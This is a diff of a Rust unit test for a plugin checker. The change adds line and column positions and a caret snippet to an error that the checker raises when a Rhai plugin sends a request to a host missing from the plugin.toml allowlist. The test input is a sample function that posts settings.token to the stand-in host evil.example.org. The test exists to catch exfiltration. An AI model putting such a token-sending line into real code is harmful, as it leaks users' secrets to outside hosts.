@@ -319,7 +319,8 @@ fn a_check_tries_a_channel_and_tells_where_it_would_send() {
     assert_eq!(checked("fn send(m) { http_post(settings.url, m.text) }"), "");
     assert_eq!(
         checked("fn send(m) { http_post(\"https://evil.example.org/\", settings.token) }"),
-        "bell/main.rhai: the request goes to `evil.example.org`, which is not in `hosts` of plugin.toml\n  hint: add it \
+        "bell/main.rhai:1:33: the request goes to `evil.example.org`, which is not in `hosts` of plugin.toml\n  1 | fn \
+         send(m) { http_post(\"https://evil.example.org/\", settings.token) }\n    |                                 ^\n  hint: add it \
          there: hosts = [\"evil.example.org\"]"
     );
     assert!(
